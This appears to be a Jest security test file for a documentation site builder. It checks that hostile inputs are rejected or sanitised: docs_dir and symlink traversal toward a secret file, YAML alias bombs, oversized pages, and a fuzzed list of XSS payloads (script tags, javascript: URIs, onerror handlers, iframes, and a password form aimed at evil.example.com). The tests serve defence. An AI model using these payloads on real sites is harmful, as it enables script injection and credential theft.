import { createMockDirectory } from '@backstage/backend-test-utils';
import fc from 'fast-check';
import type { Element } from 'hast';
import { select, selectAll } from 'hast-util-select';
import { promises as fs } from 'node:fs';
import { buildDocs } from '../__testUtils__/buildDocs';
import { readMkdocsConfig } from './mkdocsConfig';
import { buildSiteInWorker } from '../worker/buildSiteInWorker';

jest.setTimeout(120_000);

describe('hostile docs', () => {
  const directory = createMockDirectory();
  const build = () =>
    buildDocs({
      inputDir: directory.resolve('input'),
      outputDir: directory.resolve('output'),
    });
  const readConfig = () => readMkdocsConfig(directory.resolve('input'));
  const setInput = (input: Record<string, unknown>) =>
    directory.setContent({
      input: input as Parameters<typeof directory.setContent>[0],
      output: {},
      secret: { 'token.md': 'canary-7f3a' },
    });

  it('cannot read outside by docs_dir', async () => {
    for (const docsDir of ['../secret', '/etc', 'docs/../../secret', '.']) {
      setInput({
        'mkdocs.yml': `site_name: x\ndocs_dir: ${docsDir}\n`,
        docs: { 'index.md': '# x' },
      });

      await expect(build()).rejects.toThrow(
        /^mkdocs\.yml:2: docs_dir must be a folder below the one of mkdocs\.yml/,
      );
    }
  });

  it('cannot read outside by symbolic links', async () => {
    setInput({ docs: { 'index.md': '# x' } });
    await fs.symlink(
      directory.resolve('secret/token.md'),
      directory.resolve('input/docs/stolen.md'),
    );
    await expect(build()).rejects.toThrow(
      'docs/stolen.md: the symbolic link leads out of the docs folder',
    );

    setInput({ docs: { 'index.md': '# x' } });
    await fs.symlink(
      directory.resolve('secret'),
      directory.resolve('input/docs/folder'),
    );
    await expect(build()).rejects.toThrow(
      'docs/folder: the symbolic link leads out',
    );

    setInput({});
    await fs.symlink(
      directory.resolve('secret'),
      directory.resolve('input/docs'),
    );
    await expect(build()).rejects.toThrow('docs: the symbolic link leads out');

    setInput({ docs: { 'other.md': '# x' } });
    await fs.symlink(
      directory.resolve('secret/token.md'),
      directory.resolve('input/README.md'),
    );
    await expect(build()).rejects.toThrow('There is no home page');
  });

  it('cannot read outside by nav, includes or mkdocs.yml itself', async () => {
    setInput({
      'mkdocs.yml': 'nav: [index.md, ../../secret/token.md]\n',
      docs: { 'index.md': '--8<-- "../../secret/token.md"\n' },
    });
    const site = await build();
    expect(site.log).toContain(
      'nav names "../../secret/token.md", which is no page',
    );
    expect(await site.read('index.html')).not.toContain('canary');

    setInput({ docs: { 'index.md': '# x' } });
    await fs.symlink(
      directory.resolve('secret/token.md'),
      directory.resolve('input/mkdocs.yml'),
    );
    await expect(build()).rejects.toThrow('mkdocs.yml must be a regular file');
  });

  it.each([
    ['site_name: "x\nnav: []\n', /^mkdocs\.yml:\d: not valid YAML: /],
    ['a: &a [1]\nb: [*c]\n', /^mkdocs\.yml(:\d)?: not valid YAML: /],
    ['- just\n- a list\n', /^mkdocs\.yml:1: file: /],
    ['site_name: x\nnav: index.md\n', /^mkdocs\.yml:2: nav: /],
    ['site_name: x\nnav:\n  - a: 1\n', /^mkdocs\.yml:3: "a" in nav needs/],
    [
      'nav:\n  - index.md\n  - {a: b.md, c: d.md}\n',
      /^mkdocs\.yml:3: an entry of nav/,
    ],
    ['strict: perhaps\n', /^mkdocs\.yml:1: strict: /],
    ['repo_url: javascript:alert(1)\n', /^mkdocs\.yml:1: repo_url: /],
  ])('say where mkdocs.yml is wrong: %j', async (config, message) => {
    setInput({ 'mkdocs.yml': config, docs: { 'index.md': '# x' } });

    await expect(readConfig()).rejects.toThrow(message);
  });

  it('cannot fill the memory with aliases', async () => {
    const levels = Array.from(
      { length: 12 },
      (_, level) =>
        `l${level + 1}: &l${level + 1} [${`*l${level}, `.repeat(10)}]`,
    );
    setInput({
      'mkdocs.yml': ['l0: &l0 [x]', ...levels].join('\n'),
      docs: { 'index.md': '# x' },
    });

    await expect(readConfig()).rejects.toThrow(
      /^mkdocs\.yml: not valid YAML: /,
    );
  });

  it('say which page is wrong', async () => {
    setInput({ docs: { 'index.md': '---\ntitle: "x\n---\n# x' } });
    await expect(build()).rejects.toThrow(
      /^docs\/index\.md:\d: the front matter is not valid YAML/,
    );

    setInput({ docs: { 'index.md': Buffer.from([0x23, 0x20, 0xff, 0xfe]) } });
    await expect(build()).rejects.toThrow('docs/index.md is not UTF-8 text');

    setInput({ docs: { 'index.md': `# x\n${'y'.repeat(1024 * 1024)}` } });
    await expect(build()).rejects.toThrow('docs/index.md is larger than 1 MiB');

    setInput({ docs: { 'index.md': `# x\n\n${'> '.repeat(150)}deep` } });
    await expect(build()).rejects.toThrow(
      'docs/index.md:3: nested deeper than 100 levels',
    );

    setInput({ docs: { 'index.md': '<div>'.repeat(50_000) } });
    await expect(build()).rejects.toThrow(/^docs\/index\.md: nested too deep/);
  });

  it('cannot keep the portal busy: a page that takes for ever ends its own build', async () => {
    setInput({ docs: { 'index.md': '# x', 'slow.md': '_*'.repeat(200_000) } });
    let turns = 0;
    const turning = setInterval(() => turns++, 10);

    await expect(
      buildSiteInWorker({
        inputDir: directory.resolve('input'),
        outputDir: directory.resolve('output'),
        logger: { info: () => {}, warn: () => {} },
        deadlineMs: 6_000,
      }),
    ).rejects.toThrow('docs/slow.md: the site was not built within 6 s');

    clearInterval(turning);
    expect(turns).toBeGreaterThan(100);
  });

  it('cannot bring in anything that acts, whatever is put together', async () => {
    const fragment = fc.constantFrom(
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<img src="data:text/html,x">',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="&#106;avascript:alert(1)">x</a>',
      '[x](javascript:alert(1))',
      '[x](JaVaScRiPt:alert(1))',
      '[x](data:text/html;base64,PHNjcmlwdD4=)',
      '[x](vbscript:x)',
      '![x](javascript:alert(1))',
      '<javascript:alert(1)>',
      '[r]\n\n[r]: javascript:alert(1)\n\n',
      '<iframe src="https://evil.example.com"></iframe>',
      '<style>*{display:none}</style>',
      '<div style="position:fixed">',
      '<div class="md-overlay md-sidebar" id="__drawer">',
      '<svg><script>alert(1)</script></svg>',
      '<math><mi xlink:href="javascript:alert(1)">',
      '<form action="https://evil.example.com"><input name=password><button>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example.com">',
      '<base href="https://evil.example.com">',
      '<link rel=stylesheet href="https://evil.example.com/main.00000000.min.css">',
      '<object data="x"></object><embed src="x">',
      '</article></div></body><script>alert(2)</script>',
      '<!--',
      '-->',
      '<![CDATA[',
      '\n\n',
      '\n    ',
      '\n!!! note "<script>alert(3)</script>"\n    ',
      '\n??? "><img src=x onerror=alert(4)>\n    ',
      '\n=== "<img src=x onerror=alert(5)>"\n    ',
      '\n```html title="<script>alert(6)</script>"\n',
      '\n```mermaid\n',
      '\n```\n',
      '\n| a | <script> |\n|---|---|\n| b | ',
      '[^1]\n\n[^1]: <script>alert(7)</script>',
      '`',
      '# ',
      '{#"><script>}',
      '\u0000',
      'text',
    );
    const page = fc
      .array(fragment, { minLength: 1, maxLength: 12 })
      .map(fragments => fragments.join(''));

    await fc.assert(
      fc.asyncProperty(
        fc.array(page, { minLength: 40, maxLength: 40 }),
        async pages => {
          setInput({
            docs: Object.fromEntries([
              ['index.md', '# x'],
              ...pages.map((text, at) => [`p${at}.md`, text]),
            ]),
          });
          const site = await build();
          for (const at of pages.keys()) {
            const tree = await site.page(`p${at}/index.html`);
            const article = select('article', tree);
            expect(article && actingParts(article)).toEqual([]);
            expect(selectAll('article', tree)).toHaveLength(1);
            expect(selectAll('script, style, iframe, base', tree)).toEqual([]);
            expect(selectAll('link', tree)).toHaveLength(1);
          }
        },
      ),
      { numRuns: 5, endOnFailure: true },
    );
  });
});

const ACTIVE = new Set(
  'script style iframe object embed form button meta base link svg math'.split(
    ' ',
  ),
);

/** Everything in an article that could act, mislead or reach out. */
function actingParts(article: Element): string[] {
  return selectAll('*', article).flatMap(({ tagName, properties }) => [
    ...(ACTIVE.has(tagName) ? [tagName] : []),
    ...Object.entries(properties).flatMap(([name, value]) => {
      const text = Array.isArray(value) ? value.join(' ') : String(value);
      const isBad =
        /^on|^style$|^action$|^srcDoc$/i.test(name) ||
        (/^(?:href|src|xlinkHref)$/i.test(name) &&
          /^\W*(?:javascript|vbscript|data):/i.test(text)) ||
        (name === 'id' && /^__(?!tabbed_)/.test(text)) ||
        (name === 'className' &&
          /(?:^|\s)md-/.test(text) &&
          !/^md-(?:typeset__scrollwrap|typeset__table|content__inner md-typeset)$/.test(
            text,
          )) ||
        (tagName === 'input' &&
          name === 'type' &&
          !['checkbox', 'radio'].includes(text));
      return isBad ? [`${tagName} ${name}=${text}`] : [];
    }),
  ]);
}
